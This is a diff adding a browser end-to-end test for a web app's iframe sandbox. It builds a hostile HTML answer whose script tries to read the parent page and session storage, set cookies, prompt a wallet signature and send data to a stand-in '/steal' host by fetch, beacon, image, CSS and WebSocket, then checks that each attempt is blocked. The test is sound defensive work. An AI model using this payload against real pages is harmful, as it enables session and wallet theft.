@@ -1,0 +1,85 @@
+"""A hostile response cannot reach the page, its storage, the wallet or the network; the page stays usable."""
+
+from __future__ import annotations
+
+import json
+
+import pytest
+from playwright.sync_api import expect
+from tests.e2e.flows import add_key, score_with_keyboard, sign_in
+from tests.e2e.support import CountingServer, Miner, PageWallet, WorkerApi, simple_response
+
+pytestmark = pytest.mark.browser
+
+
+def hostile(api: str, other: str) -> str:
+    """A response that tries everything it should not be able to do, and writes what it got into its own page."""
+    script = """
+const out = {};
+const tryIt = async (name, fn) => { try { out[name] = 'GOT ' + String(await fn()).slice(0, 80); }
+                                    catch (e) { out[name] = 'blocked: ' + (e && e.name); } };
+(async () => {
+  await tryIt('parent_document', () => parent.document.body.innerHTML);
+  await tryIt('top_storage', () => top.localStorage.getItem('dojo.session'));
+  await tryIt('cookie', () => document.cookie = 'stolen=1');
+  await tryIt('local_storage', () => localStorage.getItem('dojo.session'));
+  await tryIt('session_storage', () => sessionStorage.length);
+  await tryIt('indexed_db', () => indexedDB.open('x') && 'opened');
+  await tryIt('fetch_api', () => fetch('API/api/v1/worker/partners').then(r => r.status));
+  await tryIt('fetch_other', () => fetch('OTHER/steal?via=fetch', {mode: 'no-cors'}).then(r => r.type));
+  await tryIt('beacon', () => navigator.sendBeacon('OTHER/steal?via=beacon', 'x') ? 'queued' : 'refused');
+  await tryIt('image', () => new Promise((ok, bad) => { const i = new Image(); i.onload = () => ok('loaded');
+                                          i.onerror = () => bad({name: 'ImageError'}); i.src = 'OTHER/steal?via=img'; }));
+  await tryIt('websocket', () => new Promise((ok, bad) => { const w = new WebSocket('WS/steal');
+                                          w.onopen = () => ok('open'); w.onerror = () => bad({name: 'WsError'}); }));
+  await tryIt('wallet', () => window.ethereum.request({method: 'personal_sign', params: ['0x6869', '0x0']}));
+  await tryIt('popup', () => { const w = window.open('OTHER/steal?via=popup'); if (!w) throw {name: 'NoPopup'}; return 'opened'; });
+  await tryIt('top_navigation', () => { top.location.href = 'OTHER/steal?via=top'; return 'navigated'; });
+  await tryIt('alert', () => { alert('hi'); return 'shown'; });
+  document.getElementById('out').textContent = JSON.stringify(out);
+  document.body.dataset.done = '1';
+})();
+""".replace("OTHER", other).replace("API", api).replace("WS", other.replace("http", "ws"))
+    return (f"<!doctype html><html><head><link rel=stylesheet href='{other}/steal?via=css'></head><body>"
+            f"<h3>Totally normal answer</h3><img src='{other}/steal?via=tag'><pre id=out>running</pre>"
+            f"<script>{script}</script></body></html>")
+
+
+def test_hostile_response_gets_nothing_and_page_stays_usable(page, wallet: PageWallet, worker_api: WorkerApi,
+                                                            miner: Miner, counter: CountingServer) -> None:
+    base = worker_api.url
+    sub_key = miner.new_key("subscription-keys")
+    contents = [hostile(base, counter.url)] + [simple_response(f"Fine {i}", "#eef") for i in range(3)]
+    task_id, cids = miner.create_task(contents, prompt="A task with one hostile answer", expire_in_s=1200)
+    dialogs: list[str] = []
+    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
+    sign_in(page, base)
+    add_key(page, "Alice", sub_key)
+    page.goto(f"{base}/#/task/{task_id}")
+
+    frame = page.frame_locator("iframe.response-frame").nth(0)
+    expect(frame.locator("body")).to_have_attribute("data-done", "1", timeout=15_000)
+    got = json.loads(frame.locator("#out").text_content())
+    assert set(got) >= {"parent_document", "cookie", "local_storage", "fetch_api", "fetch_other", "wallet"}
+    # alert() returns silently in a sandbox without allow-modals, and sendBeacon only queues: both are judged
+    # by their effect (no dialog, no request), below
+    leaked = {k: v for k, v in got.items() if v.startswith("GOT") and k not in ("beacon", "alert")}
+    assert leaked == {}, f"the hostile response got through: {leaked}"
+    assert got["parent_document"] == "blocked: SecurityError"
+    assert got["local_storage"] == "blocked: SecurityError" and got["cookie"] == "blocked: SecurityError"
+    # the test wallet is injected into frames too (unlike real wallets) but answers the main frame only;
+    # whether the frame saw it or not, nothing was signed apart from the sign-in
+    assert got["wallet"].startswith("blocked") and set(wallet.refused) <= {"personal_sign"}
+    assert len(wallet.signed) == 1 and "wants you to sign in" in wallet.signed[0]
+    assert counter.count == 0, f"{counter.count} request(s) left the sandbox"
+    assert dialogs == []
+    assert page.url == f"{base}/#/task/{task_id}"  # no top navigation
+    assert len(page.context.pages) == 1  # no popup
+
+    # the page still works: score everything with the keyboard and submit
+    score_with_keyboard(page, [2, 9, 5, 6])
+    page.keyboard.press("Enter")
+    expect(page).not_to_have_url(f"{base}/#/task/{task_id}")
+    assert [r["labeller_id"] for r in miner.results(task_id)] == [wallet.account.address]
+    assert counter.count == 0
+    assert set(miner.results(task_id)[0]["scores"]) == set(cids)
